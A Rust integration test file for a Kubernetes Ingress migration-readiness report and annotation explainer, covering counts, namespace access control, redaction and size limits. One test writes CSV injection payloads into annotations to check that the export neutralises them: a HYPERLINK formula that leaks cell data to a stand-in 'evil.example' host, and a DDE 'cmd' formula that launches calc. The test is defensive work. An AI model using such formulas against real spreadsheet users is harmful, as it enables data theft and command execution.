//! Issue 36: the migration-readiness inventory (`GET /api/migration`, JSON and CSV) and the
//! annotation explainer (`GET /api/objects/ingresses/{namespace}/{name}/annotations`) against
//! the real kube-apiserver of `test_support::kube_cluster`: Ingresses and IngressClasses
//! written through its REST API (server-side apply), the application reaching it with a
//! kubeconfig as in a cluster. Each test keeps to namespaces of its own; the IngressClasses
//! (`mig-nginx`, `mig-traefik`) are shared, written the same by every test and never the default.

use serde_json::{Value, json};
use test_support::kube_cluster::KubeCluster;

use crate::app::spawn_app_server;
use crate::real_kube::{self, Cluster, INGRESS, RealApp, Resource, spawn_real_server};

const NGINX: &str = "nginx.ingress.kubernetes.io/";

/// The test client (127.0.0.1) plays the sign-in proxy.
const LOOPBACK_IS_TRUSTED: &str = "  trusted_proxies: [127.0.0.0/8, \"::1\"]\n";

const INGRESS_CLASS: Resource = Resource {
    api_version: "networking.k8s.io/v1",
    kind: "IngressClass",
    plural: "ingressclasses",
    namespaced: false,
};

/// The application against the shared cluster as its admin, with `server_yaml` and
/// `overrides_yaml`, once `namespaces` and the IngressClasses the tests name are there:
/// `mig-nginx` (ingress-nginx), `mig-traefik`.
async fn spawn(namespaces: &[&str], server_yaml: &str, overrides_yaml: &str) -> RealApp {
    let app = spawn_app_server(server_yaml, overrides_yaml).await;
    app.kube.namespaces(namespaces).await;
    for (name, controller) in [
        ("mig-nginx", "k8s.io/ingress-nginx"),
        ("mig-traefik", "traefik.io/ingress-controller"),
    ] {
        let class = json!({"metadata": {"name": name}, "spec": {"controller": controller}});
        app.kube.put(INGRESS_CLASS, class).await;
    }
    app
}

/// [`spawn`] with one namespace that holds Ingress `web` of class `mig-nginx` with
/// `annotations`.
async fn spawn_web(namespace: &str, annotations: Value) -> RealApp {
    let app = spawn(&[namespace], "", "").await;
    app.web(namespace, annotations).await;
    app
}

impl RealApp {
    /// Creates or updates an Ingress `name` of class `class` with `annotations` (its host
    /// `<name>.<namespace>.example.com`, to Service `name`).
    async fn ingress(&self, namespace: &str, name: &str, class: &str, annotations: Value) {
        let host = format!("{name}.{namespace}.example.com");
        let mut ingress = real_kube::ingress(namespace, name, &host, name);
        ingress["metadata"]["annotations"] = annotations;
        ingress["spec"]["ingressClassName"] = json!(class);
        self.kube.put(INGRESS, ingress).await;
    }

    /// Ingress `web` of class `mig-nginx` (ingress-nginx) with `annotations`.
    async fn web(&self, namespace: &str, annotations: Value) {
        self.ingress(namespace, "web", "mig-nginx", annotations)
            .await;
    }

    /// The body of `GET path` (the JSON report or the CSV), as the admin.
    async fn text(&self, path: &str) -> String {
        self.get(path).await.text().await.expect("a body")
    }

    /// The annotation explainer's answer for Ingress `web` of `namespace`.
    async fn explain_web(&self, namespace: &str) -> (u16, Value) {
        self.get_json(&format!(
            "/api/objects/ingresses/{namespace}/web/annotations"
        ))
        .await
    }

    /// `GET path` as `user` of `groups`, as the sign-in proxy forwards it.
    async fn get_as(&self, path: &str, groups: &str) -> reqwest::Response {
        self.client
            .get(format!("{}{path}", self.address))
            .header("X-Auth-Request-User", "someone")
            .header("X-Auth-Request-Groups", groups)
            .send()
            .await
            .expect("request sent")
    }
}

fn counts_of<'a>(report: &'a Value, namespace: &str) -> &'a Value {
    report["namespaces"]
        .as_array()
        .expect("namespaces")
        .iter()
        .find(|entry| entry["namespace"] == namespace)
        .map(|entry| &entry["counts"])
        .unwrap_or_else(|| panic!("{namespace} in {report}"))
}

fn explanation<'a>(answer: &'a Value, key: &str) -> &'a Value {
    answer["annotations"]
        .as_array()
        .expect("annotations")
        .iter()
        .find(|entry| entry["key"] == key)
        .unwrap_or_else(|| panic!("{key} in {answer}"))
}

fn warning_codes(entry: &Value) -> Vec<&str> {
    entry["warnings"]
        .as_array()
        .expect("warnings")
        .iter()
        .map(|warning| warning["code"].as_str().expect("a code"))
        .collect()
}

#[tokio::test]
async fn the_inventory_counts_each_namespace_s_controller_annotations_by_support() {
    let (a, b) = ("mig-count-a", "mig-count-b");
    let app = spawn(&[a, b], "", "").await;
    app.ingress(
        a,
        "web",
        "mig-nginx",
        json!({
            format!("{NGINX}rewrite-target"): "/",
            format!("{NGINX}ssl-redirect"): "yes",
            format!("{NGINX}proxy-body-size"): "8m",
            format!("{NGINX}server-snippet"): "return 200;",
            "cert-manager.io/cluster-issuer": "letsencrypt",
            "traefik.ingress.kubernetes.io/router.tls": "true",
        }),
    )
    .await;
    app.ingress(
        b,
        "shop",
        "mig-nginx",
        json!({format!("{NGINX}canary-weight"): "20", format!("{NGINX}rewrite-target"): "/"}),
    )
    .await;
    app.ingress(
        b,
        "plain",
        "mig-nginx",
        json!({"example.com/owner": "shop"}),
    )
    .await;

    let response = app.get(&format!("/api/migration?namespaces={a},{b}")).await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["cache-control"], "no-store");
    let report: Value = response.json().await.unwrap();
    assert_eq!(
        counts_of(&report, a),
        &json!({"ingresses": 1, "ingressesWithAnnotations": 1, "annotations": 5,
                "gatewayApi": 3, "implementationSpecific": 1, "noEquivalent": 1,
                "unknown": 0, "invalid": 1, "ignored": 1})
    );
    assert_eq!(
        counts_of(&report, b),
        &json!({"ingresses": 2, "ingressesWithAnnotations": 1, "annotations": 2,
                "gatewayApi": 2, "implementationSpecific": 0, "noEquivalent": 0,
                "unknown": 0, "invalid": 0, "ignored": 0})
    );
    assert_eq!(report["totals"]["annotations"], 7);
    assert_eq!(
        report["totals"]["ignored"], 1,
        "Traefik's annotation on an nginx class"
    );
    assert_eq!(report["totals"]["ingresses"], 3);
    let top = &report["annotations"][0];
    assert_eq!(top["key"], format!("{NGINX}rewrite-target"));
    assert_eq!(top["ingresses"], 2);
    assert_eq!(top["namespaces"], json!([a, b]));
    assert_eq!(top["support"], "gateway_api");
    assert!(top["gatewayApi"].as_str().unwrap().contains("URLRewrite"));
    let web = &report["ingresses"][0];
    assert_eq!(
        (&web["namespace"], &web["name"], &web["controller"]),
        (&json!(a), &json!("web"), &json!("k8s.io/ingress-nginx")),
        "the controller is the IngressClass's"
    );
    assert!(
        report["catalogueVersion"]
            .as_str()
            .unwrap()
            .contains("ingress-nginx@")
    );
    assert_eq!(report["classesNote"], Value::Null);
    assert!(
        !report.to_string().contains("return 200"),
        "snippets stay redacted"
    );

    let (status, body) = app.get_json("/api/migration?format=xml").await;
    assert_eq!(status, 400);
    assert_eq!(body["error"]["code"], "invalid_parameter");
}

#[tokio::test]
async fn a_user_limited_to_one_namespace_sees_only_its_counts() {
    let mapping = "access:\n  mode: trusted_headers\n  namespaces_by_group:\n    \
                   shop: [mig-shop]\n    sre: [\"*\"]\n";
    let (shop, other) = ("mig-shop", "mig-hidden");
    let app = spawn(&[shop, other], LOOPBACK_IS_TRUSTED, mapping).await;
    for namespace in [shop, other] {
        app.web(
            namespace,
            json!({format!("{NGINX}limit-rps"): "10", format!("{NGINX}x-{namespace}"): "1"}),
        )
        .await;
    }

    let report: Value = app
        .get_as("/api/migration", "shop")
        .await
        .json()
        .await
        .unwrap();
    let namespaces: Vec<&str> = report["namespaces"]
        .as_array()
        .unwrap()
        .iter()
        .map(|entry| entry["namespace"].as_str().unwrap())
        .collect();
    assert_eq!(namespaces, [shop]);
    assert_eq!(report["totals"]["annotations"], 2);
    assert!(!report.to_string().contains(other), "{report}");
    let csv = app
        .get_as("/api/migration?format=csv", "shop")
        .await
        .text()
        .await
        .unwrap();
    assert!(csv.contains(shop) && !csv.contains(other), "{csv}");

    let named = app
        .get_as(&format!("/api/migration?namespaces={other}"), "shop")
        .await;
    assert_eq!(named.status(), 403);
    let body: Value = named.json().await.unwrap();
    assert_eq!(body["error"]["code"], "forbidden");
    let explained = app
        .get_as(
            &format!("/api/objects/ingresses/{other}/web/annotations"),
            "shop",
        )
        .await;
    assert_eq!(explained.status(), 404, "answered as a missing Ingress");
    let body: Value = explained.json().await.unwrap();
    assert_eq!(body["error"]["code"], "not_found");

    let sre: Value = app
        .get_as(&format!("/api/migration?namespaces={shop},{other}"), "sre")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(sre["totals"]["annotations"], 4);
    let unauthenticated = app.get("/api/migration").await;
    assert_eq!(unauthenticated.status(), 401);
}

#[tokio::test]
async fn a_formula_in_an_annotation_value_comes_out_of_the_csv_as_text() {
    let namespace = "mig-csv";
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
    let app = spawn_web(
        namespace,
        json!({
            format!("{NGINX}rewrite-target"): formula,
            format!("{NGINX}x-forwarded-prefix"): "@SUM(1+1)*cmd|' /C calc'!A0",
            format!("{NGINX}upstream-vhost"): "+1\r\n-2,\"three\"",
            format!("{NGINX}rewrite-targte"): "/",
        }),
    )
    .await;

    let response = app
        .get(&format!("/api/migration?namespaces={namespace}&format=csv"))
        .await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    assert_eq!(
        response.headers()["content-disposition"],
        "attachment; filename=\"ingress-migration.csv\""
    );
    let csv = response.text().await.unwrap();
    assert!(csv.starts_with("namespace,ingress,ingress_class,controller,annotation,value,"));
    assert!(
        csv.contains(r#""'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")""#),
        "{csv}"
    );
    assert!(csv.contains(r#""'@SUM(1+1)*cmd|' /C calc'!A0""#), "{csv}");
    // The CR becomes a space; the line feed stays inside the quoted cell.
    assert!(csv.contains("\"'+1 \n-2,\"\"three\"\"\""), "{csv}");
    for (line, text) in csv.split("\r\n").enumerate().skip(1) {
        for cell in text.split("\",\"") {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "line {line}: {cell}"
            );
        }
    }
    let typo = csv
        .split("\r\n")
        .find(|line| line.contains("rewrite-targte"))
        .expect("the unknown key's row");
    assert!(
        typo.contains("\"unknown\"") && typo.contains("unknown_key"),
        "{typo}"
    );
}

#[tokio::test]
async fn the_explainer_says_what_each_annotation_does_for_the_class_s_controller() {
    let namespace = "mig-explain";
    let app = spawn_web(
        namespace,
        json!({
            format!("{NGINX}rewrite-target"): "/$1",
            format!("{NGINX}ssl-redirect"): "yes",
            format!("{NGINX}configuration-snippet"):
                "proxy_set_header Authorization \"Basic c2VjcmV0\";",
            format!("{NGINX}proxy-body-sise"): "8m",
            "traefik.ingress.kubernetes.io/router.tls": "true",
            "cert-manager.io/cluster-issuer": "letsencrypt",
        }),
    )
    .await;

    let (status, answer) = app.explain_web(namespace).await;
    assert_eq!(status, 200);
    assert!(
        !answer.to_string().contains("c2VjcmV0"),
        "the snippet's value leaked: {answer}"
    );
    assert_eq!(answer["ingressClassName"], "mig-nginx");
    assert_eq!(answer["controller"], "k8s.io/ingress-nginx");
    assert_eq!(answer["controllerName"], "ingress-nginx");

    let rewrite = explanation(&answer, &format!("{NGINX}rewrite-target"));
    assert_eq!(rewrite["support"], "gateway_api");
    assert!(rewrite["does"].as_str().unwrap().contains("path"));
    assert!(rewrite["source"].as_str().unwrap().starts_with("https://"));
    assert_eq!(warning_codes(rewrite), Vec::<&str>::new());
    let redirect = explanation(&answer, &format!("{NGINX}ssl-redirect"));
    assert_eq!(redirect["validity"], "invalid");
    assert_eq!(warning_codes(redirect), ["invalid_value"]);
    let snippet = explanation(&answer, &format!("{NGINX}configuration-snippet"));
    assert_eq!(snippet["value"], "<redacted>");
    assert_eq!(snippet["support"], "no_equivalent");
    assert_eq!(warning_codes(snippet), ["snippet"]);
    let typo = explanation(&answer, &format!("{NGINX}proxy-body-sise"));
    assert_eq!(warning_codes(typo), ["unknown_key"]);
    assert!(
        typo["warnings"][0]["message"]
            .as_str()
            .unwrap()
            .contains("proxy-body-size")
    );
    let traefik = explanation(&answer, "traefik.ingress.kubernetes.io/router.tls");
    assert_eq!(traefik["controller"], "traefik");
    assert_eq!(warning_codes(traefik), ["other_controller"]);
    let issuer = explanation(&answer, "cert-manager.io/cluster-issuer");
    assert_eq!(issuer["support"], Value::Null);
    assert_eq!(issuer["value"], "letsencrypt");

    for (path, status, code) in [
        (
            "/api/objects/ingresses/mig-explain/nope/annotations",
            404,
            "not_found",
        ),
        (
            "/api/objects/ingresses/Bad_NS/web/annotations",
            400,
            "invalid_namespace",
        ),
        (
            "/api/objects/ingresses/mig-explain/a..b/annotations",
            400,
            "invalid_name",
        ),
    ] {
        let (got, body) = app.get_json(path).await;
        assert_eq!(
            (got, body["error"]["code"].as_str()),
            (status, Some(code)),
            "{path}"
        );
    }
}

#[tokio::test]
async fn huge_values_are_bounded_in_every_answer() {
    let namespace = "mig-huge";
    // Annotations may hold 256 KiB in all.
    let huge = "a".repeat(200_000);
    let app = spawn_web(
        namespace,
        json!({format!("{NGINX}cors-allow-origin"): huge, format!("{NGINX}limit-rps"): "9".repeat(40_000)}),
    )
    .await;

    let (status, answer) = app.explain_web(namespace).await;
    assert_eq!(status, 200);
    let cors = explanation(&answer, &format!("{NGINX}cors-allow-origin"));
    assert_eq!(cors["value"].as_str().unwrap().chars().count(), 257);
    assert!(cors["value"].as_str().unwrap().ends_with('…'));
    let rps = explanation(&answer, &format!("{NGINX}limit-rps"));
    assert_eq!(rps["validity"], "invalid", "checked whole");

    let report = app
        .text(&format!("/api/migration?namespaces={namespace}"))
        .await;
    assert!(report.len() < 8_000, "{} bytes", report.len());
    let csv = app
        .text(&format!("/api/migration?namespaces={namespace}&format=csv"))
        .await;
    assert!(csv.len() < 4_000, "{} bytes", csv.len());
}

#[tokio::test]
async fn without_permission_on_ingress_classes_the_report_says_what_to_grant() {
    let cluster = KubeCluster::shared();
    let namespace = "mig-scoped";
    let token = real_kube::reader_token(cluster, &[namespace]);
    let app = spawn_real_server(
        Cluster::Shared(cluster),
        Some(&token),
        "",
        &real_kube::scoped(&[namespace]),
        real_kube::INGRESSES_ONLY,
    )
    .await;
    app.web(namespace, json!({format!("{NGINX}proxy-body-size"): "1m"}))
        .await;
    let (status, report) = app.get_json("/api/migration").await;
    assert_eq!(status, 200, "{report}");
    assert!(
        report["classesNote"]
            .as_str()
            .unwrap_or_default()
            .contains("may not list ingressclasses.networking.k8s.io"),
        "{report}"
    );
    assert_eq!(report["totals"]["implementationSpecific"], 1);
    assert_eq!(report["ingresses"][0]["controller"], Value::Null);
}
